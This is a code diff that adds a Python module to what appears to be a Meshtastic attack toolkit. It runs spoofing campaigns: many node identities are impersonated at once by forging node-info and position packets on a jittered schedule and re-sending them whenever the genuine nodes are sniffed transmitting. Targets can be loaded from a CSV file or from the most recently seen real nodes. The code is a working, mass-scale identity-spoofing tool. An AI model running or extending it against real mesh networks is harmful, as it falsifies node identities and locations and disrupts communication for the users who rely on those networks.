@@ -0,0 +1,235 @@
+import csv
+import heapq
+import itertools
+import logging
+import random
+import threading
+import time
+from meshtastic.protobuf import portnums_pb2
+from settings import ROOT_TOPIC, CHANNEL, KEY, DEBUG, BROADCAST_MAC
+from src.agents.reactive import ReactiveScheduler
+from src.agents.sniffer import Sniffer
+from src.agents.spoofer import Spoofer
+from src.clients.db_client import DB
+from src.clients.publisher_pool import PUBLISHERS
+from src.mesh.packet.filters import PacketFilter
+from src.utils import set_topic, hw_model_to_num, id_to_num, num_to_id, LatencyHistogram
+
+MODES = ('periodic', 'reactive', 'hybrid')
+SPOOF_PORTNUMS = (portnums_pb2.NODEINFO_APP, portnums_pb2.POSITION_APP)
+# Columns read from a targets file; empty cells fall back to the DB, then to defaults
+TARGET_COLUMNS = ('node_id', 'short_name', 'long_name', 'hw_model', 'lat', 'lon', 'alt', 'pubkey', 'mode', 'interval', 'to_node', 'gateway_node')
+
+
+class CampaignTarget:
+    """One spoofed identity with its resolved parameters and cached packet templates."""
+    __slots__ = ('node_id', 'node_number', 'params', 'mode', 'interval', 'to_node', 'publish_topic', 'templates')
+
+    def __init__(self, node_id, params, mode, interval, to_node, gateway_node):
+        self.node_id = node_id
+        self.node_number = id_to_num(node_id)
+        self.params = params
+        self.mode = mode
+        self.interval = interval
+        self.to_node = to_node
+        self.publish_topic = set_topic(gateway_node, ROOT_TOPIC, CHANNEL)
+        # PacketTemplates by destination node number, then portnum
+        self.templates = {}
+
+    @property
+    def periodic(self):
+        return self.mode in ('periodic', 'hybrid')
+
+    @property
+    def reactive(self):
+        return self.mode in ('reactive', 'hybrid')
+
+
+class Campaign:
+    """
+    Drives many spoofed identities from one process.
+
+    Periodic emissions of every target are kept in a single heap ordered by due time
+    (with jitter so targets do not fire in lock-step), reactive targets share one
+    sniffer subscription and are looked up by sender in a dispatch table, and all
+    bursts run on one bounded worker pool publishing through the shared publisher pool.
+    """
+    def __init__(self, targets, burst=1, period=2, jitter=0.1, spoofer=None):
+        self.spoofer = spoofer or Spoofer()
+        self.targets = list(targets)
+        self.burst = burst
+        self.period = period
+        self.jitter = jitter
+        self.workers = ReactiveScheduler()
+        self.schedule_lag = LatencyHistogram()
+        self.dispatch = {t.node_number: t for t in self.targets if t.reactive}
+        self._heap = []
+        self._seq = itertools.count()
+        self._stop = threading.Event()
+
+    def _templates(self, target, to_num):
+        templates = target.templates.get(to_num)
+        if templates is None:
+            templates = target.templates[to_num] = self.spoofer.build_templates(to_num, target.node_id, target.params)
+        return templates
+
+    def _emit(self, target, to_num, portnums):
+        def burst_fn(on_publish):
+            templates = self._templates(target, to_num)
+            for portnum in portnums:
+                self.spoofer.emit_burst(templates[portnum], target.publish_topic, self.burst, self.period, on_publish)
+        return burst_fn
+
+    def _next_due(self, target, now):
+        return now + target.interval * (1 + random.uniform(-self.jitter, self.jitter))
+
+    def _schedule_all(self):
+        now = time.monotonic()
+        for target in self.targets:
+            if target.periodic:
+                # Spread the first emissions over one interval instead of firing everything at once
+                heapq.heappush(self._heap, (now + random.uniform(0, target.interval), next(self._seq), target))
+
+    def run_scheduler(self):
+        """Fire due periodic emissions until stop() is called."""
+        while not self._stop.is_set():
+            if not self._heap:
+                self._stop.wait(1)
+                continue
+            due, _, target = self._heap[0]
+            now = time.monotonic()
+            if due > now:
+                self._stop.wait(due - now)
+                continue
+            heapq.heappop(self._heap)
+            # Lateness is measured from the due time, converted to the perf_counter clock
+            due_at = time.perf_counter() - (now - due)
+            self.workers.trigger(
+                (target.node_number, 'periodic'),
+                self._emit(target, id_to_num(target.to_node), SPOOF_PORTNUMS),
+                due_at, latency=self.schedule_lag
+            )
+            heapq.heappush(self._heap, (self._next_due(target, now), next(self._seq), target))
+
+    def on_packet_received(self, packet, decoded_data, portnum, from_node_mac, to_node_mac, context=None, **node_kwargs):
+        target = self.dispatch.get(getattr(packet, 'from'))
+        if target is None or self.spoofer.matches_spoofed(portnum, target.params, node_kwargs):
+            return
+        logging.info(f"[Campaign] {portnums_pb2.PortNum.Name(portnum)} from {from_node_mac}, spoofing burst...")
+        self.workers.trigger(
+            (target.node_number, portnum),
+            self._emit(target, packet.to, (portnum,)),
+            context.timings['received'] if context is not None else None
+        )
+
+    def run(self):
+        periodic = sum(t.periodic for t in self.targets)
+        logging.info(f"[Campaign] {len(self.targets)} targets: {periodic} periodic, {len(self.dispatch)} reactive")
+        # Open one publisher per gateway topic before anything fires
+        for topic in {t.publish_topic for t in self.targets}:
+            PUBLISHERS.get(topic)
+        self._schedule_all()
+        if not self.dispatch:
+            try:
+                self.run_scheduler()
+            except KeyboardInterrupt:
+                logging.info("[Campaign] Stopped by user.")
+            return
+        scheduler = threading.Thread(target=self.run_scheduler, name='campaign-scheduler', daemon=True)
+        scheduler.start()
+        for target in self.dispatch.values():
+            DB.set_freeze(target.node_id, True)
+        try:
+            sniffer = Sniffer(key=KEY, debug=DEBUG)
+            sniffer.sniff(
+                callback=self.on_packet_received,
+                packet_filter=PacketFilter(
+                    from_ids=[t.node_id for t in self.dispatch.values()],
+                    portnums=SPOOF_PORTNUMS,
+                    keep_undecoded=False
+                )
+            )
+        finally:
+            self.stop()
+            for target in self.dispatch.values():
+                DB.set_freeze(target.node_id, False)
+            logging.info(f"[Campaign] {len(self.dispatch)} reactive targets unfrozen.")
+
+    def stop(self):
+        self._stop.set()
+
+    def close(self):
+        self.stop()
+        self.workers.close()
+        logging.info(f"[Campaign] bursts: {self.workers.stats()}")
+        logging.info(f"[Campaign] periodic lag: {self.schedule_lag.stats()}")
+        self.spoofer.close()
+
+
+def _make_target(spoofer, row, defaults):
+    node_id = row['node_id']
+    if not node_id:
+        raise ValueError("node_id is required")
+    mode = row.get('mode') or defaults.get('mode', 'hybrid')
+    if mode not in MODES:
+        raise ValueError(f"unknown mode {mode!r}")
+    hw_model = row.get('hw_model')
+    params = spoofer.get_effective_spoof_params(node_id, {
+        'short_name': row.get('short_name'),
+        'long_name': row.get('long_name'),
+        'hw_model': hw_model_to_num(int(hw_model) if hw_model and hw_model.isdigit() else hw_model),
+        'lat': float(row['lat']) if row.get('lat') else None,
+        'lon': float(row['lon']) if row.get('lon') else None,
+        'alt': float(row['alt']) if row.get('alt') else None,
+        'pubkey': row.get('pubkey'),
+    })
+    interval = float(row.get('interval') or defaults.get('interval', 60))
+    # Also rejects NaN; a target due again at once would keep the scheduler spinning
+    if not interval > 0:
+        raise ValueError(f"interval must be positive, got {interval}")
+    return CampaignTarget(
+        node_id=node_id,
+        params=params,
+        mode=mode,
+        interval=interval,
+        to_node=row.get('to_node') or defaults.get('to_node', BROADCAST_MAC),
+        gateway_node=row.get('gateway_node') or defaults.get('gateway_node', BROADCAST_MAC),
+    )
+
+
+def load_targets_file(path, spoofer=None, **defaults):
+    """Load targets from a CSV file with a header row using TARGET_COLUMNS (node_id required)."""
+    spoofer = spoofer or Spoofer()
+    targets = []
+    line_no = 0
+
+    def data_lines(f):
+        # Line numbers in the file, comment lines included
+        nonlocal line_no
+        for line_no, line in enumerate(f, start=1):
+            if not line.lstrip().startswith('#'):
+                yield line
+
+    with open(path, 'r', encoding='utf-8', newline='') as f:
+        for row in csv.DictReader(data_lines(f)):
+            row = {k.strip(): (v.strip() if v is not None and v.strip() else None) for k, v in row.items() if k}
+            try:
+                targets.append(_make_target(spoofer, row, defaults))
+            except (ValueError, KeyError) as e:
+                logging.warning(f"[Campaign] Skipping invalid target on {path}:{line_no}: {e}")
+    logging.info(f"[Campaign] Loaded {len(targets)} targets from {path}")
+    return targets
+
+
+def load_targets_db(limit=None, spoofer=None, **defaults):
+    """Use the most recently seen nodes in the DB as targets, with their stored values."""
+    spoofer = spoofer or Spoofer()
+    nodes = sorted(DB.get_all_nodes(), key=lambda n: n.last_seen.timestamp() if n.last_seen else 0, reverse=True)
+    targets = []
+    for node in nodes[:limit] if limit else nodes:
+        try:
+            targets.append(_make_target(spoofer, {'node_id': num_to_id(node.node_number)}, defaults))
+        except ValueError as e:
+            logging.warning(f"[Campaign] Skipping node {node.node_number}: {e}")
+    logging.info(f"[Campaign] Loaded {len(targets)} targets from the DB")
+    return targets